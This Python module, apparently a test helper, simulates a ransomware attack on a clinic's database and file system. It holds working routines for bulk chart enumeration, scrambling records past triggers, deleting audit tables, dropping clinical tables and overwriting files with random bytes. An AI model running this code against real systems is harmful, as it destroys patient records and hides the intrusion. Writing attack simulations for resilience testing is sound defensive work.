# SPDX-License-Identifier: Apache-2.0
"""ランサムウェアの手口 — what an attacker does who holds a valid sign-in, the server's machine and every right over its database."""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple

import psycopg

if TYPE_CHECKING:
    from collections.abc import Callable

    from django.test import Client

LOCKED = ".locked"
# 遠くの網から: an address that the clinic's people never come from.
ELSEWHERE = "203.0.113.66"
_HEAD = 1 << 16
# 暗号化されたように: texts that nobody can read, the row's own each.
_SCRAMBLED = (
    "UPDATE chart_note SET subjective = md5(id::text), objective = md5(id::text), assessment = '', plan = md5(id::text)",
    "UPDATE orders_placedorder SET value = jsonb_build_object('locked', md5(id::text))",
    "UPDATE patients_patient SET name = md5(id::text), kana = md5(id::text)",
)
_TRAIL = ("audit_auditcosignature", "audit_auditcheckpoint", "audit_shownpatient", "audit_auditevent")


class Reading(NamedTuple):
    """のぞき見の結果 — charts that opened before the session died."""

    opened: int
    is_stopped: bool


def read_charts(browser: Client, most: int, tend: Callable[[], None]) -> Reading:
    """大量閲覧 — number after number, as the addresses invite to, until the session ends."""
    opened = 0
    for number in range(1, most + 1):
        answer = browser.get(f"/patients/{number}/")
        if answer.status_code not in (200, 403, 404):
            return Reading(opened, is_stopped=True)
        opened += answer.status_code == 200
        tend()
    return Reading(opened, is_stopped=False)


def scramble_records(owner: psycopg.Connection[Any]) -> int:
    """記録の暗号化 — past every policy and trigger, in one transaction; answers how many rows."""
    with owner.transaction():
        owner.execute("SET LOCAL session_replication_role = replica")
        return sum(owner.execute(each).rowcount for each in _SCRAMBLED)  # type: ignore[call-overload]


def erase_trail(owner: psycopg.Connection[Any]) -> None:
    """痕跡の消去 — the trail is emptied, then tables of care are dropped."""
    with owner.transaction():
        owner.execute("SET LOCAL session_replication_role = replica")
        for table in _TRAIL:
            owner.execute(f"DELETE FROM {table}")  # type: ignore[call-overload]  # noqa: S608 - our own names
    with owner.transaction():
        owner.execute("DROP TABLE chart_note, billing_accountentry CASCADE")


def lock_files(*folders: Path) -> int:
    """ファイルの暗号化 — everything below these folders is overwritten and gets another name; answers how many."""
    count = 0
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and not path.is_symlink():
                with path.open("r+b") as file:
                    file.write(os.urandom(min(max(path.stat().st_size, 1), _HEAD)))
                path.rename(path.with_name(path.name + LOCKED))
                count += 1
    return count
